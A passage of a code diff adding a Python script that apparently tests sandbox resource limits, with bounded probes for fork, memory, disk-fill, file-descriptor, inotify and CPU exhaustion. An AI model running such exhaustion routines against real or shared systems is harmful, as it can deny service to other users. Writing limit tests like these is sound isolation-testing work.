+    os.close(w)
+    pid = os.read(r, 20).decode()
+    return {"daemon_pid": int(pid or 0)}
+
+
+# ------------------------------------------------------------------------- exhaustion
+
+
+def probe_fork(limit: int) -> dict:
+    pids = []
+    err = "LIMIT_NOT_HIT"
+    for _ in range(limit):
+        try:
+            pid = os.fork()
+        except OSError as e:
+            err = oserr(e)
+            break
+        if pid == 0:
+            time.sleep(30)
+            os._exit(0)
+        pids.append(pid)
+    for pid in pids:
+        os.kill(pid, signal.SIGKILL)
+    for pid in pids:
+        os.waitpid(pid, 0)
+    return {"forked": len(pids), "stopped_by": err}
+
+
+def probe_memory(mb: int) -> dict:
+    chunks = []
+    for i in range(mb // 16):
+        chunks.append(bytearray(16 * 1024 * 1024))  # zero-filled: every page touched
+        print(json.dumps({"progress_mb": (i + 1) * 16}), flush=True)
+    return {"allocated_mb": len(chunks) * 16}
+
+
+def probe_fill(path: str, mb: int) -> dict:
+    block = os.urandom(1024 * 1024)
+    written = 0
+    err = "LIMIT_NOT_HIT"
+    try:
+        with open(path, "wb", buffering=0) as f:
+            for _ in range(mb):
+                f.write(block)
+                written += 1
+    except OSError as e:
+        err = oserr(e)
+    finally:
+        try:
+            os.unlink(path)
+        except OSError:
+            pass
+    return {"written_mb": written, "stopped_by": err}
+
+
+def probe_fds_exhaust(limit: int) -> dict:
+    fds = []
+    err = "LIMIT_NOT_HIT"
+    for _ in range(limit):
+        try:
+            fds.append(os.open("/dev/null", os.O_RDONLY))
+        except OSError as e:
+            err = oserr(e)
+            break
+    for fd in fds:
+        os.close(fd)
+    return {"opened": len(fds), "stopped_by": err}
+
+
+def probe_inotify(limit: int, hold: float) -> dict:
+    fds = []
+    err = "LIMIT_NOT_HIT"
+    for _ in range(limit):
+        fd = libc.inotify_init1(0)
+        if fd < 0:
+            err = ename(ctypes.get_errno())
+            break
+        fds.append(fd)
+    print(json.dumps({"inotify": len(fds), "stopped_by": err}), flush=True)
+    time.sleep(hold)
+    for fd in fds:
+        os.close(fd)
+    return {"inotify": len(fds), "stopped_by": err}
+
+
+def probe_cpu(workers: int, seconds: float) -> dict:
+    t0 = time.monotonic()
+    pids = []
+    for _ in range(workers):
+        pid = os.fork()
+        if pid == 0:
+            end = time.monotonic() + seconds
+            while time.monotonic() < end:
+                pass
+            os._exit(0)
+        pids.append(pid)
+    for pid in pids:
+        os.waitpid(pid, 0)
+    wall = time.monotonic() - t0
+    t = os.times()
+    return {"cpu_s": t.children_user + t.children_system, "wall_s": wall}
+
+
+def main() -> None:
+    name, args = sys.argv[1], json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
+    result = globals()[f"probe_{name}"](**args)
+    print(json.dumps(result), flush=True)
+
+
+if __name__ == "__main__":
+    main()
